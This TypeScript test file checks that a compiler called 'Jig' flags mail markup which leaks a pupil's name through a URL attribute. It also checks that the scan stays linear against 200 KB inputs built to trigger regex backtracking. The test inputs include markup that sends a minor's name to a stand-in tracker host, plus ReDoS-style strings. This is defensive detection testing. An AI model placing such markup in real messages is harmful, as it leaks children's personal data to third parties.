/**
 * Markup a recipient renders (here a mail's body) sends a value written into one of its URLs to
 * that URL's host (rule 3, connectors/markup.ts). The markup is read as a renderer tokenises it,
 * over the whole text: however much stands between a URL attribute's start and the value, and
 * whatever a quoted value holds (`>`, `<`, another quote), the value is in the URL; written after
 * the tag closes, it is text. And reading is linear: 200 KB of markup built to make a backtracking
 * pattern quadratic is read at once.
 */
import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { compileText } from '../../compiler/src/compilation.js';
import { fixturePolicy, fixtureProject } from './helpers.js';

const policy = fixturePolicy();
const project = fixtureProject();

/** A mail to the client's own office whose body is `markup`, `NAME` standing for the pupil's name. */
const flow = (markup: string) => `type Pupil {
  id:   string @business.other
  name: string @personal.minor @subject(pupil)
}

@purpose(automation, "Tell the office a pupil enrolled")
@data(business.other, personal.minor)
@retain(7 days)
flow tell_office {
  trigger http post body Pupil
  send mail office365 to "office@contoso.example" subject "New pupil" body "${markup.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll('NAME', '${trigger.body.name}')}"
}
`;

const codes = (markup: string) =>
  compileText('t.jig', flow(markup), { policy, project })
    .diagnostics.map((d) => d.code)
    .sort();

/** Filler with no slash (a `//` would name a host) and no `$`, `\` or `NAME`: the generator's escapes. */
const filler = (exclude: string) => fc.string({ unit: fc.constantFrom(...'ab <>=&;#:x-'.split('').filter((c) => !exclude.includes(c))), maxLength: 40 });

const attribute = fc.constantFrom('src', 'href', 'data-src', 'srcset', 'poster', 'background', 'lowsrc', 'xlink:href', 'action');
const quoting = fc.constantFrom('"', "'", '');

describe('a value in a URL attribute, however far from its start', () => {
  test('is sent to a host Jig cannot see: JIG3301 and, for a pupil, JIG3901', () => {
    fc.assert(
      fc.property(attribute, quoting, fc.nat({ max: 6000 }), filler("\"'"), filler("\"'"), (name, quote, padding, before, inValue) => {
        // Inside a quoted value anything but its quote; inside an unquoted one no space or `>`.
        const inside = quote === '' ? inValue.replace(/[\s>]/g, '') : inValue;
        const markup = `<base href='https://tracker.example/'>${before.replace(/[<>]/g, '')}<img alt="x>y" ${name}=${quote}${inside}${'p'.repeat(padding)}NAME${quote}>`;
        expect(codes(markup)).toEqual(['JIG3301', 'JIG3901']);
      }),
      { numRuns: 60 },
    );
  });

  test('once the tag is closed, the value is text: clean (the clean twin)', () => {
    fc.assert(
      fc.property(attribute, quoting, fc.nat({ max: 6000 }), filler("\"'<>&"), (name, quote, padding, inValue) => {
        const inside = quote === '' ? inValue.replace(/\s/g, '') : inValue;
        const markup = `<img ${name}=${quote}https://ocr-contoso.azurewebsites.net/badge.png?${inside.replace(/[<>]/g, '')}${'p'.repeat(padding)}${quote} alt="a > b"><p title='<img src=x'>NAME</p>`;
        expect(codes(markup)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });
});

describe('200 KB of markup built against backtracking patterns', () => {
  const timed = (markup: string) => {
    const started = performance.now();
    const found = codes(markup);
    return { found, ms: Math.round(performance.now() - started) };
  };

  test.each([
    ['CSS url( repeated', `${'url('.repeat(50_000)}<img src='NAME'>`],
    ['attribute starts repeated', `<img ${'-src='.repeat(40_000)}NAME>`],
    ['unclosed quotes and tags', `${'<a href="'.repeat(10_000)}${'<b title=\''.repeat(10_000)}NAME`],
  ])('%s: read in one pass, the value found', (_, markup) => {
    const { found, ms } = timed(markup);
    console.log(`markup of ${markup.length} characters checked in ${ms} ms`);
    expect(found).toEqual(['JIG3301', 'JIG3901']);
  });
});
